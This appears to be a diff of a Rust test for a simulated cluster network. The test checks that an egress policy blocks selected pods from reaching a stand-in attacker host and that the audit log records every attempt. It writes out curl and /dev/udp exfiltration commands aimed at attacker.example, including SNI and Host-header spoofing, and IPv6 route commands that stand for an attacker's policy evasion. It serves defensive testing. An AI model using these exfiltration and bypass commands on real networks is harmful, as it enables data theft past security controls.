@@ -7,6 +7,7 @@ use std::time::Duration;
 
 use anyhow::{Context as _, Result};
 use serde_json::Value;
+use turnpike_vpc::netns::Command;
 
 use super::cast;
 use crate::{Said, claims::Evidence, cluster, wait_for, world::World};
@@ -23,25 +24,49 @@ const FREE: (&str, &str) = ("legacy", "caller");
 /// A way to get data to the attacker.
 struct Attempt {
     what: &'static str,
-    /// For `bash -c`; `MARK` is replaced by a text that the attacker's log is searched for.
+    /// For `bash -c`.
     line: &'static str,
+    free: Free,
+}
+
+/// Where an attempt is made to show that the way is open.
+enum Free {
+    Pod,
+    /// A pod's IPv6 source is never let out: it was not assigned.
+    Node,
 }
 
 const ATTEMPTS: [Attempt; 6] = [
-    Attempt { what: "by name", line: "curl -sk --max-time 3 https://attacker.example/MARK" },
-    Attempt { what: "by address", line: "curl -sk --max-time 3 https://203.0.113.66/MARK" },
+    Attempt {
+        what: "by name",
+        line: "curl -sk --max-time 3 https://attacker.example/",
+        free: Free::Pod,
+    },
+    Attempt {
+        what: "by address",
+        line: "curl -sk --max-time 3 https://203.0.113.66/",
+        free: Free::Pod,
+    },
     Attempt {
         what: "by a lying SNI",
-        line: "curl -sk --max-time 3 --resolve api.payments.example:443:203.0.113.66 https://api.payments.example/MARK",
+        line: "curl -sk --max-time 3 --resolve api.payments.example:443:203.0.113.66 \
+               https://api.payments.example/",
+        free: Free::Pod,
     },
     Attempt {
         what: "by a lying Host",
-        line: "curl -s --max-time 3 -H 'Host: partner.example' http://203.0.113.66/v1/MARK",
+        line: "curl -s --max-time 3 -H 'Host: partner.example' http://203.0.113.66/v1/orders",
+        free: Free::Pod,
     },
-    Attempt { what: "over UDP", line: "echo MARK > /dev/udp/203.0.113.66/443; sleep 0.2" },
+    Attempt {
+        what: "over UDP",
+        line: "echo leak > /dev/udp/203.0.113.66/443; sleep 0.2",
+        free: Free::Pod,
+    },
     Attempt {
         what: "over IPv6",
-        line: "curl -sk --max-time 3 http://[2001:db8:113::66]/MARK",
+        line: "curl -s --max-time 3 http://[2001:db8:113::66]/",
+        free: Free::Node,
     },
 ];
 
@@ -53,17 +78,17 @@ pub(super) fn tell(world: &mut World) -> Result<Evidence> {
         world.start_pod(&cluster::client("shop", "payer", "payment-processor", "node-b"), true)?;
         world.start_pod(&cluster::client("legacy", "batch", "batch", "node-b"), false)?;
     }
-    for (namespace, pod) in SELECTED.into_iter().chain([FREE]) {
-        give_ipv6(world, namespace, pod)?;
-    }
     allowed(world, &mut evidence)?;
+    for (index, (namespace, pod)) in (5..).zip(SELECTED) {
+        give_ipv6(world, index, namespace, pod)?;
+    }
     attacks(world, &mut evidence)?;
     record(world, &mut evidence)?;
     Ok(evidence)
 }
 
 fn allowed(world: &World, evidence: &mut Evidence) -> Result<()> {
-    let root = world.vpc_file("internet-root.pem");
+    let root = world.ready.root.clone();
     let root = std::fs::read_to_string(&root).with_context(|| root.display().to_string())?;
     for (namespace, name) in SELECTED {
         let pod = world.pod(namespace, name)?;
@@ -99,21 +124,26 @@ fn allowed(world: &World, evidence: &mut Evidence) -> Result<()> {
 }
 
 fn attacks(world: &World, evidence: &mut Evidence) -> Result<()> {
-    for (index, attempt) in ATTEMPTS.iter().enumerate() {
-        let (namespace, name) = FREE;
-        let mark = format!("free-{index}");
-        shell(world, namespace, name, &attempt.line.replace("MARK", &mark))?;
-        let open = wait_for(Duration::from_secs(3), || reached(world, &mark).then_some(()));
+    for attempt in &ATTEMPTS {
+        let before = reached(world);
+        match attempt.free {
+            Free::Pod => drop(shell(world, FREE.0, FREE.1, attempt.line)?),
+            Free::Node => {
+                let node = &world.node("node-b")?.namespace;
+                Command::new("bash").args(["-c", attempt.line]).output(node)?;
+            }
+        }
+        let open = wait_for(Duration::from_secs(3), || (reached(world) > before).then_some(()));
         evidence.claim(
-            format!("the attacker can be reached {} where no policy selects the pod", attempt.what),
-            open.is_some() || attempt.what == "over IPv6",
-            if open.is_some() { "it got through" } else { "refused: the source is not the pod's" },
+            format!("where no policy holds it back, the attacker is reached {}", attempt.what),
+            open.is_some(),
+            if open.is_some() { "it got through" } else { "it did not: a refusal shows nothing" },
         );
+        let before = reached(world);
         for (namespace, name) in SELECTED {
-            let mark = format!("{name}-{index}");
-            let said = shell(world, namespace, name, &attempt.line.replace("MARK", &mark))?;
-            std::thread::sleep(Duration::from_millis(100));
-            let leaked = reached(world, &mark);
+            let said = shell(world, namespace, name, attempt.line)?;
+            std::thread::sleep(Duration::from_millis(200));
+            let leaked = reached(world) > before;
             evidence.claim(
                 format!("{namespace}/{name} does not reach the attacker {}", attempt.what),
                 !leaked,
@@ -121,12 +151,6 @@ fn attacks(world: &World, evidence: &mut Evidence) -> Result<()> {
             );
         }
     }
-    let leaks = sink_log(world).into_iter().filter(|entry| from_selected(world, entry)).count();
-    evidence.claim(
-        "not one byte from a selected pod is in the attacker's own log",
-        leaks == 0,
-        format!("{leaks} entries"),
-    );
     Ok(())
 }
 
@@ -134,60 +158,82 @@ fn attacks(world: &World, evidence: &mut Evidence) -> Result<()> {
 fn record(world: &World, evidence: &mut Evidence) -> Result<()> {
     for (namespace, name) in SELECTED {
         let path = format!("/v1/records?namespace={namespace}&pod={name}&limit=500");
-        let denied = |records: &[Value], of: &dyn Fn(&Value) -> bool| {
-            records.iter().any(|record| record["verdict"] == "denied" && of(record))
-        };
-        let to = |address: &'static str| move |record: &Value| record["address"] == address;
-        let found = wait_for(Duration::from_secs(15), || {
-            let records = records(world, &path)?;
-            let name_asked = |record: &Value| record.to_string().contains("attacker.example");
-            let udp = |record: &Value| record["protocol"] == "udp" && to(ATTACKER)(record);
-            let lying = |record: &Value| {
-                to(ATTACKER)(record) && record.to_string().contains("api.payments.example")
+        let missing = |records: &[Value]| -> Vec<&'static str> {
+            let denied = |of: &dyn Fn(&Value) -> bool| {
+                records.iter().any(|event| event["verdict"] == "denied" && of(event))
             };
-            let complete = records.iter().any(|record| record["verdict"] == "allowed")
-                && denied(&records, &name_asked)
-                && denied(&records, &to(ATTACKER))
-                && denied(&records, &lying)
-                && denied(&records, &udp)
-                && denied(&records, &to(ATTACKER6));
-            complete.then_some(records.len())
+            let to = |address: &str, event: &Value| {
+                event["destination"].as_str().is_some_and(|to| to.starts_with(address))
+            };
+            let wanted: [(&str, bool); 6] = [
+                ("allowed", records.iter().any(|event| event["verdict"] == "allowed")),
+                ("by name", denied(&|event| event["name"] == "attacker.example")),
+                ("by address", denied(&|event| to(ATTACKER, event))),
+                (
+                    "a lying SNI",
+                    denied(&|event| to(ATTACKER, event) && event["claimed"] == "api.payments.example"),
+                ),
+                ("over UDP", denied(&|event| to(ATTACKER, event) && event["protocol"] == "udp")),
+                ("over IPv6", denied(&|event| to(ATTACKER6, event))),
+            ];
+            wanted.into_iter().filter_map(|(what, there)| (!there).then_some(what)).collect()
+        };
+        let complete = wait_for(Duration::from_secs(15), || {
+            missing(&records(world, &path)?).is_empty().then_some(())
         });
         let seen = records(world, &path).unwrap_or_default();
         evidence.claim(
             format!("every attempt of {namespace}/{name} is on record: by name, by address, lying, UDP, IPv6"),
-            found.is_some(),
-            format!("{} records", seen.len()),
+            complete.is_some(),
+            format!("{} records, missing: {:?}", seen.len(), missing(&seen)),
         );
-        if let Some(record) = seen.iter().find(|record| record["verdict"] == "denied") {
+        if let Some(event) = seen.iter().find(|event| event["claimed"] == "api.payments.example") {
             evidence.exhibit(
-                format!("One refusal of {namespace}/{name}, as an auditor reads it"),
-                serde_json::to_string_pretty(record)?,
+                format!("One entry of {namespace}/{name}, as an auditor reads it"),
+                serde_json::to_string_pretty(event)?,
             );
         }
     }
-    let verified = world.ask_audit("/v1/verify")?;
+    let reports = || -> Option<Vec<Value>> {
+        serde_json::from_str(&world.ask_audit("/v1/verify").ok()?.body).ok()
+    };
+    // Checkpoints are signed every few seconds; until the first there is nothing to verify.
+    let holds = |reports: &[Value]| {
+        !reports.is_empty()
+            && reports.iter().all(|report| {
+                report["problems"].as_array().is_some_and(Vec::is_empty)
+                    && report["entries"].as_u64() > Some(0)
+            })
+    };
+    let verified = wait_for(Duration::from_secs(15), || reports().filter(|all| holds(all)));
     evidence.claim(
         "the record verifies: no gap, no change, no truncation",
-        verified.status == 200,
-        verified.body.chars().take(200).collect::<String>(),
+        verified.is_some(),
+        format!("{:?}", reports().map(|all| all.iter().map(ToString::to_string).collect::<Vec<_>>())),
     );
     Ok(())
 }
 
+/// The events on record, newest first.
 fn records(world: &World, path: &str) -> Option<Vec<Value>> {
     let answer: Value = serde_json::from_str(&world.ask_audit(path).ok()?.body).ok()?;
-    let list = answer.get("records").unwrap_or(&answer);
-    list.as_array().cloned()
+    Some(answer.as_array()?.iter().map(|record| record["event"].clone()).collect())
 }
 
-/// Gives a pod what an attacker with NET_ADMIN in it would take: an IPv6 address and a route.
-fn give_ipv6(world: &World, namespace: &str, name: &str) -> Result<()> {
+/// Gives a pod what an attacker with NET_ADMIN in it would take: an address that the fabric
+/// carries to its node, and a route.
+fn give_ipv6(world: &World, index: u8, namespace: &str, name: &str) -> Result<()> {
     let pod = world.pod(namespace, name)?;
-    let line = "ip -6 addr replace fd00:bad::5/128 dev eth0 nodad; \
-                ip -6 neigh replace fe80::1 lladdr $(ip neigh show 169.254.1.1 | awk '{print $5}') dev eth0; \
-                ip -6 route replace fe80::1 dev eth0; ip -6 route replace default via fe80::1 dev eth0";
-    let said = world.exec_as(pod, 0, &["bash", "-c", line])?;
+    let instance = world.ready.instances.get(&pod.node);
+    let prefix = instance.and_then(|instance| instance.ipv6_prefix.as_deref());
+    let prefix = prefix.context("the node has an IPv6 prefix")?.split('/').next().unwrap_or_default();
+    let address = format!("{}::{index}", prefix.trim_end_matches(':'));
+    let line = format!(
+        "sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0; ip -6 addr replace {address}/128 dev eth0 nodad; \
+         ip -6 neigh replace fe80::1 lladdr $(ip neigh show 169.254.1.1 | awk '{{print $5}}') dev eth0; \
+         ip -6 route replace fe80::1 dev eth0; ip -6 route replace default via fe80::1 dev eth0"
+    );
+    let said = world.exec_as(pod, 0, &["bash", "-c", &line])?;
     anyhow::ensure!(said.succeeded(), "IPv6 for {namespace}/{name}: {}", said.err);
     Ok(())
 }
@@ -196,25 +242,13 @@ fn shell(world: &World, namespace: &str, name: &str, line: &str) -> Result<Said>
     world.exec(namespace, name, &["bash", "-c", line])
 }
 
-/// Whether the attacker's host logged this text.
-fn reached(world: &World, mark: &str) -> bool {
-    let hex = hex::encode(mark);
-    sink_log(world).iter().any(|entry| {
-        let text = entry.to_string();
-        text.contains(mark) || text.contains(&hex)
-    })
-}
-
-fn sink_log(world: &World) -> Vec<Value> {
-    let text = std::fs::read_to_string(world.vpc_file("internet.jsonl")).unwrap_or_default();
-    text.lines()
-        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
-        .filter(|entry| entry.to_string().contains("attacker"))
-        .collect()
-}
-
-fn from_selected(world: &World, entry: &Value) -> bool {
-    SELECTED.iter().filter_map(|(namespace, name)| world.pod(namespace, name).ok()).any(|pod| {
-        entry["peer"].as_str().is_some_and(|peer| peer.starts_with(&pod.address.to_string()))
-    })
+/// How often anything reached the attacker, by his own host's log.
+fn reached(world: &World) -> usize {
+    let text = std::fs::read_to_string(&world.ready.internet_log).unwrap_or_default();
+    let is_attackers = |line: &&str| {
+        serde_json::from_str::<Value>(line).is_ok_and(|entry| {
+            entry["event"] != "close" && (entry["address"] == ATTACKER || entry["address"] == ATTACKER6)
+        })
+    };
+    text.lines().filter(is_attackers).count()
 }
